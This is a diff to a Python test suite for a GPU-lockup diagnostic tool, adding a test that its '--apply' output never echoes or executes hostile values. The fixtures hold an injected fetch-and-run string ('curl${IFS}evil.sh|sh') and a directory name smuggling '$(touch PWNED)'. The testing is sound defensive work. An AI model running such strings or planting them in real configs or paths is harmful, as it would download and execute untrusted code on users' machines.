@@ -13,7 +13,6 @@ import tap
 from machine_tree import plant_text
 
 EVIL = "9;curl${IFS}evil.sh|sh"
-ACTS = re.compile(r"[;&|$`<>(){}!*?\"\\]")
 GPU = """
 === /sys/bus/pci/devices/0000:03:00.0/vendor
 0x1002
@@ -137,6 +136,24 @@ def test_backwards(t, unhang):
         t.same(said.group(1).decode(), wanted, f"and how to turn {name} round")
 
 
+def test_apply(t, unhang):
+    """What --apply tells to do by hand, and how a profile is sourced."""
+    with tempfile.TemporaryDirectory(prefix="unhang-commands-") as room:
+        root = pathlib.Path(room)
+        evil = f"=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout={EVIL}\n=== /sys/module/amdgpu/parameters/lockup_timeout\n{EVIL}\n"
+        plant_text(GPU + evil, root)
+        out = unhang.run("doctor", "--root", root, "--apply", "lockup-timeout-set").stdout.decode()
+        told = [line for line in out.splitlines()[1:] if line.strip()]
+        t.ok(any("take out amdgpu.lockup_timeout by hand" in line for line in told) and "curl" not in "".join(told), "what is to be taken out by hand is named, not its value", out)
+        directory = root / "a b$(touch PWNED)"
+        directory.mkdir()
+        run = unhang.run("doctor", "--root", root, "--apply", "rocblas-instead-of-stream-k", "--profile", directory, "--yes")
+        said = re.search(r"not active until: (.*) in the shell of the job", run.stdout.decode())
+        words = subprocess.run(["sh", "-c", f"set -f; f() {{ printf '%s\\n' \"$@\"; }}; f {said.group(1)}"], capture_output=True, cwd=room).stdout.decode() if said else run.stderr.decode()
+        t.same(words.splitlines(), [".", f"{directory}/rocblas-instead-of-stream-k.sh"], "a profile's directory is one word for the shell")
+        t.ok(not (root / "PWNED").exists(), "and nothing of its name is run")
+
+
 FORMAT = [0xad, 0x61c, *range(0x200b, 0x2010), 0x2028, 0x2029, *range(0x202a, 0x202f), *range(0x2060, 0x2065), *range(0x2066, 0x206a), 0xfeff, 0xfff9, 0xe0001, 0xe0041]
 
 
@@ -166,7 +183,7 @@ def hostile_values():
               " ", "\t", "-", "=", "touch PWNED", "\r", "\x1b[2J", "\u202e", "a", "0", "9", "x.y", "/", "..", ":", ",", "%", "@", "+", "_", "}", "{", "^", "EOF", "\udcff"]
     chance = random.Random(13)
     values = [";", "4711", "0x10", "-1", "0000:03:00.0", "amdgpu.runpm=0", "/sys/a/b", "16.0 GT/s PCIe", "gfx_0.0.0", "python3", "a'b c", "x" * 300, *pieces]
-    while len(values) < 4000:
+    while len(values) < 3000:
         values.append("".join(chance.choice(pieces) for _ in range(chance.randint(1, 6))))
     return [v.encode(errors="surrogateescape") for v in values]
 
@@ -259,6 +276,7 @@ def main():
     test_firmware(t, unhang)
     test_logs(t, unhang)
     test_backwards(t, unhang)
+    test_apply(t, unhang)
     test_format_characters(t, unhang)
     if len(sys.argv) > 2:
         test_shells(t, unhang, pathlib.Path(sys.argv[2]).resolve())
